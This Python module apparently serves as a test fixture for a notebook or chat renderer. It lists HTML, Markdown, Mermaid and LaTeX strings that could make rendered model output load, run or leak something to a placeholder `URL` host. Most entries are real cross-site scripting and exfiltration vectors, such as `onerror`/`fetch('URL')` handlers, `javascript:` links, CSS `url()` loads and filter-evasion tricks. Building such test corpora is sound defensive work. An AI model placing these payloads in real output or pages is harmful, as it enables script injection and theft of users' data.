"""Words that a model might write to load, run or steal something; `URL` is what is watched."""

from __future__ import annotations

HTML = """
<img src="URL">
<img src=URL onerror=alert(1)>
<IMG SRC='URL'>
<img srcset="URL 1x, URL 2x">
<img src="x" onerror="fetch('URL')">
<img/src="x"/onerror="fetch('URL')">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='URL'/></svg>">
<img src="data:image/png;base64,AAAA" onload="fetch('URL')">
<img lowsrc="URL" dynsrc="URL">
<picture><source srcset="URL"><img src="URL"></picture>
<video src="URL" autoplay></video>
<video poster="URL"></video>
<video><source src="URL"></video>
<audio src="URL" autoplay preload="auto"></audio>
<audio><source src="URL"></audio>
<track src="URL">
<embed src="URL">
<object data="URL"></object>
<object type="image/svg+xml" data="URL"></object>
<applet code="URL"></applet>
<iframe src="URL"></iframe>
<iframe srcdoc="<img src='URL'>"></iframe>
<frameset><frame src="URL"></frameset>
<portal src="URL"></portal>
<script src="URL"></script>
<script>fetch('URL')</script>
<script type="module">import 'URL'</script>
<scr<script>ipt src="URL"></scr</script>ipt>
<link rel="stylesheet" href="URL">
<link rel="prefetch" href="URL">
<link rel="preload" as="image" href="URL">
<link rel="icon" href="URL">
<link rel="dns-prefetch" href="URL">
<link rel="modulepreload" href="URL">
<style>@import url("URL");</style>
<style>@import "URL";</style>
<style>* { background: url(URL) }</style>
<style>@font-face { font-family: x; src: url(URL) } * { font-family: x }</style>
<div style="background:url(URL)">x</div>
<div style="background-image:url('URL')">x</div>
<div style="background:u\\72l(URL)">x</div>
<div style="background-image:image-set('URL' 1x)">x</div>
<div style="background-image:-webkit-image-set(url(URL) 1x)">x</div>
<div style="background-image:cross-fade(url(URL), url(URL), 50%)">x</div>
<div style="list-style-image:url(URL);display:list-item">x</div>
<div style="border-image:url(URL) 30 round;border:9px solid">x</div>
<div style="content:url(URL)">x</div>
<div style="cursor:url(URL),auto">x</div>
<div style="mask-image:url(URL)">x</div>
<div style="filter:url(URL#x)">x</div>
<div style="clip-path:url(URL#x)">x</div>
<div style="shape-outside:url(URL);float:left">x</div>
<div style="--x:url(URL);background:var(--x)">x</div>
<div style="background:/**/url(URL)">x</div>
<div style="background&#58;url(URL)">x</div>
<span style="background:url(&quot;URL&quot;)">x</span>
<table background="URL"><tr><td background="URL">x</td></tr></table>
<body background="URL" onload="fetch('URL')">
<svg><image href="URL"/></svg>
<svg><image xlink:href="URL"/></svg>
<svg><use href="URL#x"/></svg>
<svg><feImage href="URL"/></svg>
<svg onload="fetch('URL')"></svg>
<svg><style>@import url(URL);</style></svg>
<svg><script href="URL"></script></svg>
<svg><foreignObject><img src="URL"></foreignObject></svg>
<svg><animate onbegin="fetch('URL')" attributeName="x" dur="1s"/></svg>
<svg><a href="URL"><text>x</text></a></svg>
<math><mi xlink:href="URL">x</mi></math>
<math><mglyph src="URL"></mglyph></math>
<math><mtext><table><mglyph><style><img src="URL"></style></mglyph></table></mtext></math>
<form action="URL"><button>Continue</button></form>
<form action="URL"><input type="submit" autofocus></form>
<input type="image" src="URL">
<input autofocus onfocus="fetch('URL')">
<button formaction="URL">x</button>
<button data-commandlinker-command="filebrowser:open-url" data-commandlinker-args="{}">x</button>
<a href="javascript:fetch('URL')">x</a>
<a href="data:text/html,<script>fetch('URL')</script>">x</a>
<a href="x" ping="URL">x</a>
<a href="URL" onmouseover="fetch('URL')">x</a>
<base href="URL">
<meta http-equiv="refresh" content="0;url=URL">
<meta http-equiv="Content-Security-Policy" content="report-uri URL">
<details open ontoggle="fetch('URL')"><summary>x</summary></details>
<marquee onstart="fetch('URL')">x</marquee>
<select autofocus onfocus="fetch('URL')"></select>
<textarea autofocus onfocus="fetch('URL')"></textarea>
<dialog open><img src="URL"></dialog>
<template><img src="URL"></template>
<noscript><img src="URL"></noscript>
<xmp><img src="URL"></xmp>
<title><img src="URL"></title>
<plaintext><img src="URL">
<isindex action="URL">
<bgsound src="URL">
<layer src="URL"></layer>
<custom-element style="background:url(URL)"></custom-element>
<!--><img src="URL">-->
<![CDATA[<img src="URL">]]>
<?xml-stylesheet href="URL"?>
<p id="jupyter-config-data">{"baseUrl": "URL"}</p>
<div class="jp-RenderedImage" data-path="URL"><img data-src="URL"></div>
"""

MARKDOWN = (
    "![x](URL)",
    "![x](<URL>)",
    '![x](URL "title")',
    "![x][ref]\n\n[ref]: URL",
    "![x]\n\n[x]: URL",
    "[![x](URL)](URL)",
    "![x](//HOST/leak)",
    "![x](/leak-local.png)",
    "![x](leak-local.png)",
    "![x](files/leak-local.png)",
    '![x](data:image/svg+xml;utf8,<svg xmlns="http://www.w3.org/2000/svg"/>)',
    "![x](attachment:leak-local.png)",
    "[x](javascript:alert`1`)",
    "[x](JaVaScRiPt:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](/leak-local)",
    "<URL>",
    "URL",
    "| a |\n|---|\n| ![x](URL) <img src=URL> |",
    "> ![x](URL)\n> <img src=URL>",
    "- ![x](URL)\n- <img src=URL>",
    "x[^1]\n\n[^1]: ![x](URL)",
    "# ![x](URL) <img src=URL>",
    "```mermaid\ngraph TD\n  A[\"<img src='URL'>\"] --> B\n```",
    '~~~mermaid\nflowchart LR\n  A["<img src=URL>"]\n  click A "URL"\n~~~',
    "- item\n\n      ```mermaid\n  graph TD; A[\"<img src='URL'>\"]\n  ```",
    "> ```mermaid\n> graph TD; A[\"<img src='URL'>\"]\n> ```",
    "```html\n<img src=URL>\n```",
    "```svg\n<svg><image href='URL'/></svg>\n```",
    '```python "><img src=URL>\nx = 1\n```',
    '```"><img/src=URL>\nx\n```',
    "`<img src=URL>`",
    "$\\href{URL}{x}$",
    "$\\style{background:url(URL)}{x}$",
    "$\\class{x}{y}$ $\\cssId{jupyter-config-data}{y}$",
    "$\\require{URL}$",
    "$\\require{html}\\href{javascript:alert(1)}{x}$",
    "$\\require{physics}\\require{mhchem}$",
    "$$\n\\require{leak-local}\n\\includegraphics{URL}\n$$",
    "$\\unicode[URL]{65}$",
    "$\\bbox[background:url(URL)]{x}$",
    "$\\text{<img src=URL>}$",
    "$<img src=URL>$",
    "\\(\\href{URL}{x}\\) \\[\\style{background:url(URL)}{x}\\]",
    "\\begin{equation}\\href{URL}{x}\\end{equation}",
    "$\\def\\x{\\require}\\x{leak-local}$",
    "$\\let\\x=\\style\\x{background:url(URL)}{y}$",
    "$\\csname require\\endcsname{leak-local}$",
    "&lt;img src=URL&gt; &#60;img src=URL&#62;",
    "<b>bold</b> <br onload=fetch('URL')> <sub style='background:url(URL)'>x</sub>",
    "<https://HOST/\"onmouseover=\"fetch('URL')>",
    "\u202e<img src=URL>\u202c",
    "<img\u00a0src=URL>",
    "<img\nsrc=URL\n>",
    "<<img src=URL>>",
)

PAYLOADS = (*(line for line in HTML.splitlines() if line), *MARKDOWN)
